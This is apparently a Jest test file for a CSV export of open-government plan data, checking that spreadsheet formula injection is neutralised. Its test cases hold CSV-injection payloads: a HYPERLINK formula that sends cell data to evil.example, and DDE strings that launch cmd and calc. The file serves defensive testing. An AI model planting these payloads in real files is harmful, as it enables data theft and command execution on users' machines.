import { CSV_COLUMNS, PlanExport, csvField, toCsv } from './open-data';

describe('a CSV cell of the open-data export', () => {
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?d="&A1,"details")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")"`],
    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('starting with %s is made text by a single quote, inside the RFC 4180 quotes', (_, text, cell) => {
    expect(csvField(text)).toBe(cell);
  });

  it('keeps text that starts otherwise as it is, quoting it only for RFC 4180', () => {
    expect(csvField('Open contracting data')).toBe('Open contracting data');
    expect(csvField('MinTIC, Ministerio de Tecnologías')).toBe('"MinTIC, Ministerio de Tecnologías"');
    expect(csvField('a = b, said "the plan"')).toBe('"a = b, said ""the plan"""');
    expect(csvField(null)).toBe('');
  });

  it('keeps a plain number, signed or not, as the number it is', () => {
    for (const number of ['-5', '+1.5', '-0.25', '-.5', '42', '2018']) expect(csvField(number)).toBe(number);
  });

  it('defuses a sign that starts more than a number', () => {
    expect(csvField('-5 %')).toBe(`"'-5 %"`);
    expect(csvField('-')).toBe(`"'-"`);
    expect(csvField('+57 1 3344')).toBe(`"'+57 1 3344"`);
  });
});

describe('the CSV export of a plan', () => {
  const data: PlanExport = {
    plan: {
      id: 'p1',
      title: '=Plan',
      country: 'CO',
      periodStart: '2020-01-01',
      periodEnd: '2022-12-31',
      themes: ['open data'],
      phase: 'implementation',
    },
    asOfPosition: 12,
    commitments: [
      {
        id: 'c1',
        proposalId: 'pr1',
        title: '@Open budgets',
        leadEntity: '+MinHacienda',
        branch: 'executive',
        themes: ['-fiscal', 'open data'],
        adoptedAt: '2020-03-01T00:00:00.000Z',
        completion: 'limited',
        milestones: [
          {
            id: 'm1',
            title: 'Portal',
            deliverable: '-10 % of the budget online',
            startDate: '2020-04-01',
            endDate: '2020-12-31',
            completion: 'limited',
          },
        ],
        latestProgress: {
          date: '2020-06-01T00:00:00.000Z',
          completion: 'limited',
          note: '-3',
          evidenceUrl: 'https://example.org/report',
          milestoneId: 'm1',
        },
      },
    ],
  };

  it('defuses every text cell that a spreadsheet would run, and leaves ids, dates, completions and numbers alone', () => {
    expect(toCsv(data)).toBe(
      [
        CSV_COLUMNS.join(','),
        [
          'p1',
          `"'=Plan"`,
          'c1',
          `"'@Open budgets"`,
          `"'+MinHacienda"`,
          'executive',
          `"'-fiscal; open data"`,
          'limited',
          'm1',
          'Portal',
          `"'-10 % of the budget online"`,
          '2020-04-01',
          '2020-12-31',
          'limited',
          '2020-06-01T00:00:00.000Z',
          'limited',
          '-3',
          'https://example.org/report',
        ].join(','),
        '',
      ].join('\r\n'),
    );
  });
});
